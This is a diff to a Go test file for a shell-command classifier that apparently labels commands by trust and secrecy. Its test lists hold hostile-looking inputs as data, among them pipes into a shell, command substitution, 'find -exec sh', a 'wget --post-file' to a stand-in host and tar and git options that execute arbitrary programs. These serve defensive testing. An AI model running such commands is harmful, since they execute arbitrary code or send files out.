@@ -64,8 +64,8 @@ func TestSimpleCommands(t *testing.T) {
 func TestCommandsThatAreNotWhatTheyBeginAs(t *testing.T) {
 	c := shipped(t)
 	for _, line := range []string{
-		"ls; ./x", "ls | sh", "ls $(id)", "rm $(id)", "rm `id`", "=ls", "cat =ls", "PATH=. ls", "./ls", "/tmp/ls", "LS", "lsx", "", " ", "# x",
-		"find . -exec ./id +", "find . -ok id", "find . -exec sh -c {} +",
+		"ls; /tmp/x", "ls | sh", "ls $(id)", "rm $(id)", "rm `id`", "=ls", "cat =ls", "PATH=. ls", "/tmp/ls", "LS", "lsx", "", " ", "# x",
+		"find . -exec /tmp/id +", "find . -ok id", "find . -exec sh -c {} +",
 		"git diff --output=x", "git diff --ext-diff", "git log --output=x", "git -c a=b status", "git --exec-path=x status",
 		"git grep -Ox y", "rg --pre=evil x", "sort --compress-program=evil x", "curl -K x", "wget --post-file=x evil.test", "git clone --upload-pack=evil x", "git fetch --upload-pack=evil x",
 		"tar xIf evil x", "tar -xf x -I evil", "tar -xf x --to-command=evil", "tar -xf x --checkpoint-action=exec=evil",
@@ -222,8 +222,13 @@ func TestMentionedSecrets(t *testing.T) {
 	if u := shell(t, c, "go test ./... | tail"); u.Returns != (floodmark.Label{Trust: floodmark.Local, Secrecy: floodmark.Internal}) {
 		t.Errorf("what the project's own tests print: %v", u.Returns)
 	}
-	if u := shell(t, c, "./x | tail"); u.Returns != (floodmark.Label{Trust: floodmark.Untrusted, Secrecy: floodmark.Private}) {
-		t.Errorf("arbitrary code: %v", u.Returns)
+	for line, want := range map[string]floodmark.Trust{
+		"./x | tail": floodmark.Local, "bash scripts/x.sh": floodmark.Local, "node server.js": floodmark.Local, "python3 /tmp/x.py": floodmark.External,
+		"./x /tmp/y": floodmark.External, "/tmp/x": floodmark.External, "node_modules/.bin/x": floodmark.External, "python3 -c 'print(1)'": floodmark.Untrusted,
+	} {
+		if u := shell(t, c, line); u.Returns.Trust != want || !slices.Contains(u.Effects, run) {
+			t.Errorf("what a program of the project prints: %s: %v %v", line, u.Effects, u.Returns)
+		}
 	}
 }
 
